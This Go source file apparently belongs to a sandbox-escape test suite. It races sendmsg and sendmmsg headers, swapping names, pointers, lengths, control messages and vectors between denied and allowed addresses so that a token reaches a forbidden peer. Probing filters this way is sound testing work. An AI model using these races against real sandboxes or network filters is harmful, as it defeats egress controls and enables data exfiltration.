package escapes

import "golang.org/x/sys/unix"

// Where a race has its message headers, their vectors and payload in the
// arena. Names lie below.
const (
	headerAt  = 0x1000 // struct msghdr or an array of struct mmsghdr
	vectorAt  = 0x2000 // struct iovec
	controlAt = 0x3000 // control messages
	payloadAt = 0x4000
)

// Offsets in struct msghdr, recvmsg(2), and the sizes of struct mmsghdr and
// struct iovec, of 64-bit programs.
const (
	headerName       = 0
	headerNameLen    = 8
	headerVector     = 16
	headerVectorLen  = 24
	headerControl    = 32
	headerControlLen = 40
	manyHeaderSize   = 64
	vectorSize       = 16
	manyHeaders      = 4
)

// raceMessageAttempts turn parts of a message's header under sendmsg(2) and
// sendmmsg(2).
func raceMessageAttempts() []Attempt {
	return []Attempt{
		race("sendmsg-name", "turn the name's bytes under sendmsg", func(a *arena) ([]func(), error) {
			return a.raceMessage(a.turn(0, word4(a.Denied.AddrPort4()), word4(a.Allowed.AddrPort4())))
		}),
		race("sendmsg-name-pointer", "turn the pointer to the name under sendmsg", func(a *arena) ([]func(), error) {
			a.put(64, sockaddr(a.Allowed.AddrPort4()))
			return a.raceMessage(a.turn(headerAt+headerName, uint64(a.at(0)), uint64(a.at(64)), 0))
		}),
		race("sendmsg-name-length", "turn the length of the name under sendmsg on a connected socket", raceNameLength),
		race("sendmsg-control", "turn the control messages and the name under sendmsg", raceControl),
		race("sendmsg-vector", "turn the vector and the name under sendmsg", raceVector),
		race("sendmsg-header", "turn the whole header under sendmsg", raceHeader),
		race("sendmmsg-names", "turn the names in the vector under sendmmsg", raceManyNames),
		race("sendmmsg-entries", "turn which entry of the vector has which name under sendmmsg", raceManyEntries),
	}
}

// message writes a header at an offset, with the token as its payload.
func (a *arena) message(at, name int, nameLen uint32) {
	a.word(at+headerName, uint64(a.at(name)))
	a.half(at+headerNameLen, nameLen)
	a.word(vectorAt, uint64(a.put(payloadAt, []byte(a.Token))))
	a.word(vectorAt+8, uint64(len(a.Token)))
	a.word(at+headerVector, uint64(a.at(vectorAt)))
	a.word(at+headerVectorLen, 1)
	a.word(at+headerControl, 0)
	a.word(at+headerControlLen, 0)
}

// messages writes an array of headers that share payload and name.
func (a *arena) messages(nameLen uint32) {
	for i := range manyHeaders {
		a.message(headerAt+i*manyHeaderSize, 0, nameLen)
	}
}

// messenger makes a part that sends the header's message.
func (a *arena) messenger(fd int) func() {
	return func() {
		_, err := call(unix.SYS_SENDMSG, uintptr(fd), a.at(headerAt), unix.MSG_DONTWAIT|unix.MSG_NOSIGNAL)
		a.saw(err)
	}
}

// manyMessenger makes a part that sends the messages of the array.
func (a *arena) manyMessenger(fd int) func() {
	return func() {
		_, err := call(unix.SYS_SENDMMSG, uintptr(fd), a.at(headerAt), manyHeaders, unix.MSG_DONTWAIT|unix.MSG_NOSIGNAL)
		a.saw(err)
	}
}

// raceMessage sends messages to the denied peer while a part turns something.
func (a *arena) raceMessage(turn func()) ([]func(), error) {
	fd, err := openUDP(unix.AF_INET)
	if err != nil {
		return nil, err
	}
	a.put(0, sockaddr(a.Denied.AddrPort4()))
	a.message(headerAt, 0, unix.SizeofSockaddrInet4)
	return []func(){turn, a.messenger(fd), a.messenger(fd)}, nil
}

// raceNameLength has a name that now counts and now does not.
func raceNameLength(a *arena) ([]func(), error) {
	fd, err := openUDP(unix.AF_INET)
	if err != nil {
		return nil, err
	}
	a.put(64, sockaddr(a.Allowed.AddrPort4()))
	a.saw(a.connect(fd, 64, unix.SizeofSockaddrInet4))
	a.put(0, sockaddr(a.Denied.AddrPort4()))
	a.message(headerAt, 0, 0)
	return []func(){
		// The length is an int, and what follows it padding.
		a.turn(headerAt+headerNameLen, unix.SizeofSockaddrInet4, 0, 1<<31),
		a.messenger(fd), a.messenger(fd),
	}, nil
}

// raceControl has IP_PKTINFO, which overrides the route, come and go.
func raceControl(a *arena) ([]func(), error) {
	const size = 16 + 12 // struct cmsghdr, struct in_pktinfo
	a.word(controlAt, size)
	a.half(controlAt+8, unix.SOL_IP)
	a.half(controlAt+12, unix.IP_PKTINFO)
	host := a.Host4.As4()
	if a.Host4.IsValid() {
		a.put(controlAt+20, host[:])
	}
	turnName := a.turn(0, word4(a.Denied.AddrPort4()), word4(a.Allowed.AddrPort4()))
	turnControl := a.turn(headerAt+headerControlLen, 0, 1<<20, 32)
	parts, err := a.raceMessage(func() {
		a.word(headerAt+headerControl, uint64(a.at(controlAt)))
		turnControl()
	})
	return append(parts, turnName), err
}

// raceVector has the vector be now the token, now nothing, now too much.
func raceVector(a *arena) ([]func(), error) {
	a.word(vectorAt+vectorSize, uint64(a.put(payloadAt, []byte(a.Token))))
	a.word(vectorAt+vectorSize+8, 1<<40)
	turnVector := a.turn(headerAt+headerVectorLen, 1, 2, 0, 1<<62)
	turnLength := a.turn(vectorAt+8, uint64(len(a.Token)), 1<<63, 0)
	turnName := a.turn(0, word4(a.Denied.AddrPort4()), word4(a.Allowed.AddrPort4()))
	return a.raceMessage(func() {
		turnVector()
		turnLength()
		turnName()
		a.word(vectorAt+8, uint64(len(a.Token)))
		a.word(headerAt+headerVectorLen, 1)
		turnName()
	})
}

// raceHeader copies one header after the other over the one that is sent.
func raceHeader(a *arena) ([]func(), error) {
	a.put(64, sockaddr(a.Allowed.AddrPort4()))
	a.message(headerAt+0x200, 0, unix.SizeofSockaddrInet4)
	a.message(headerAt+0x400, 64, unix.SizeofSockaddrInet4)
	return a.raceMessage(a.turnBytes(headerAt,
		a.memory[headerAt+0x200:headerAt+0x240], a.memory[headerAt+0x400:headerAt+0x440], a.memory[headerAt+0x600:headerAt+0x640]))
}

// raceMany sends arrays of messages to the denied peer while a part turns
// something.
func (a *arena) raceMany(turn func()) ([]func(), error) {
	fd, err := openUDP(unix.AF_INET)
	if err != nil {
		return nil, err
	}
	a.put(0, sockaddr(a.Denied.AddrPort4()))
	a.put(64, sockaddr(a.Allowed.AddrPort4()))
	a.messages(unix.SizeofSockaddrInet4)
	return []func(){turn, a.manyMessenger(fd), a.manyMessenger(fd)}, nil
}

// raceManyNames turns the one name that all messages of the array have.
func raceManyNames(a *arena) ([]func(), error) {
	return a.raceMany(a.turn(0, word4(a.Denied.AddrPort4()), word4(a.Allowed.AddrPort4())))
}

// raceManyEntries turns the name of one message after the other: the first is
// always allowed to begin with.
func raceManyEntries(a *arena) ([]func(), error) {
	denied, allowed := uint64(a.at(0)), uint64(a.at(64))
	next := 0
	parts, err := a.raceMany(func() {
		for range turns {
			next = (next + 1) % manyHeaders
			a.store(headerAt+next*manyHeaderSize+headerName, denied)
			a.store(headerAt+next*manyHeaderSize+headerName, allowed)
		}
	})
	a.word(headerAt+headerName, allowed)
	return parts, err
}
